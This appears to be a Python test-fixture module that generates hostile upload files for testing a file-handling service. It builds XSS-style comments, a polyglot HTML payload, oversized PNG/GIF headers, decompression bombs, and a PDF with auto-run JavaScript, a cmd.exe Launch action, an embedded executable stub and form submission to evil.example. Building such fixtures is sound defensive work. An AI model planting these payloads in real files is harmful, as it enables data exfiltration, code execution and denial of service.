"""Files as people, and attackers, upload them; all made here, each the same every time."""

from __future__ import annotations

import random
import struct
import zlib
from collections.abc import Sequence
from io import BytesIO

from PIL import Image, ImageCms, TiffImagePlugin
from PIL.ExifTags import GPS, IFD, Base

CAMERA = "Secret camera 35.51N 117.02E"
COMMENT = b"<script>alert('comment')</script>"
SCRIPT = b"<html><script>alert('polyglot')</script></html>"


def picture(width: int = 640, height: int = 480, seed: int = 1) -> Image.Image:
    """Blocks of colour; another seed gives other ones. The upper left corner is red, the others are not."""
    blocks = Image.new("RGB", (8, 6))
    chance = random.Random(seed)
    blocks.putdata([tuple(chance.randrange(150) for _band in "rgb") for _block in range(48)])
    blocks.putpixel((0, 0), (250, 10, 10))
    return blocks.resize((width, height), Image.Resampling.NEAREST)


def encoded(image: Image.Image, kind: str = "JPEG", **how: object) -> bytes:
    """The image as a file."""
    target = BytesIO()
    image.save(target, kind, **how)
    return target.getvalue()


def photo(width: int = 640, height: int = 480, *, orientation: int = 1, seed: int = 1) -> bytes:
    """A photo as a telephone takes it: with position, camera, colour profile and a comment."""
    exif = Image.Exif()
    exif[Base.Model] = CAMERA
    exif[Base.Orientation] = orientation
    degrees = TiffImagePlugin.IFDRational
    exif.get_ifd(IFD.GPSInfo).update(
        {
            GPS.GPSLatitudeRef: "N",
            GPS.GPSLatitude: (degrees(35), degrees(30), degrees(36)),
            GPS.GPSLongitudeRef: "E",
            GPS.GPSLongitude: (degrees(117), degrees(1), degrees(12)),
        }
    )
    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    image = picture(width, height, seed)
    return encoded(image, exif=exif, icc_profile=profile, comment=COMMENT, quality=90)


def png_chunk(kind: bytes, body: bytes) -> bytes:
    """One chunk of a PNG with its length and checksum."""
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png(width: int, height: int, *, extra: bytes = b"", is_whole: bool = True) -> bytes:
    """A black PNG of any size; not whole: it promises the size and holds one row."""
    row = b"\0" * (1 + 3 * width)
    press = zlib.compressobj(1)
    body = b"".join(press.compress(row) for _row in range(height if is_whole else 1)) + press.flush()
    head = png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + extra + png_chunk(b"IDAT", body) + png_chunk(b"IEND", b"")


def animation(kind: str) -> bytes:
    """A file of two images that follow each other."""
    return encoded(picture(), kind, save_all=True, append_images=[picture(seed=2)], duration=100)


def gif_promising(width: int, height: int) -> bytes:
    """A GIF of forty bytes that promises a large image."""
    screen = struct.pack("<HHBBB", width, height, 0x80, 0, 0)
    frame = b"," + struct.pack("<HHHHB", 0, 0, width, height, 0)
    return b"GIF89a" + screen + b"\0\0\0\xff\xff\xff" + frame + b"\x02\x02\x4c\x01\x00;"


def pdf(
    *,
    catalog: str = "",
    page: str = "",
    pages: int = 1,
    box: str = "0 0 595 842",
    drawn: bytes = b"1 0 0 rg 0 421 298 421 re f",
    coding: str = "",
    more: Sequence[bytes] = (),
) -> bytes:
    """A PDF whose every page has a red upper left quarter.

    Parameters
    ----------
    catalog, page : str
        Entries added to the catalogue and to every page.
    drawn : bytes
        The content of the pages, in the coding that ``coding`` names.
    more : sequence of bytes
        Further objects; the first has the number 4.
    """
    first = 4 + len(more)
    kids = " ".join(f"{first + number} 0 R" for number in range(pages))
    bodies = [
        f"<</Type/Catalog/Pages 2 0 R{catalog}>>".encode(),
        f"<</Type/Pages/Count {pages}/Kids[{kids}]>>".encode(),
        b"<</Length %d%b>>\nstream\n%b\nendstream" % (len(drawn), coding.encode(), drawn),
        *more,
        *[f"<</Type/Page/Parent 2 0 R/MediaBox[{box}]/Contents 3 0 R{page}>>".encode()] * pages,
    ]
    text, starts = b"%PDF-1.7\n", []
    for number, body in enumerate(bodies, start=1):
        starts.append(len(text))
        text += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    table = "".join(f"{start:010} 00000 n \n" for start in starts).encode()
    head = b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    ending = b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (len(bodies) + 1, len(text))
    return text + head + table + ending


def active_pdf() -> bytes:
    """A PDF that runs a script, starts a program, opens a page, sends a form and carries a file."""
    script = "/S/JavaScript/JS(app.alert\\(1\\))"
    return pdf(
        catalog=f"/OpenAction<<{script}>>/AA<</WC<<{script}>>>>/Names<</JavaScript<</Names[(a)<<{script}>>]>>"
        "/EmbeddedFiles<</Names[(evil.exe)4 0 R]>>>>/AcroForm<</Fields[6 0 R]>>",
        page="/Annots[6 0 R 7 0 R 8 0 R]",
        more=(
            b"<</Type/Filespec/F(evil.exe)/EF<</F 5 0 R>>>>",
            b"<</Type/EmbeddedFile/Length 4>>\nstream\nMZ\x90\x00\nendstream",
            b"<</Type/Annot/Subtype/Widget/FT/Tx/T(name)/Rect[10 10 90 30]"
            b"/A<</S/SubmitForm/F(http://evil.example)>>>>",
            b"<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A<</S/Launch/F(cmd.exe)>>>>",
            b"<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A<</S/URI/URI(http://evil.example)>>>>",
        ),
    )


def swollen(size: int, *, times: int = 1) -> bytes:
    """Zeros, packed as a PDF or PNG packs them, several times over."""
    press = zlib.compressobj(9)
    block = b"\0" * (1 << 24)
    packed = b"".join(press.compress(block) for _block in range(size >> 24)) + press.flush()
    for _again in range(times - 1):
        packed = zlib.compress(packed, 9)
    return packed
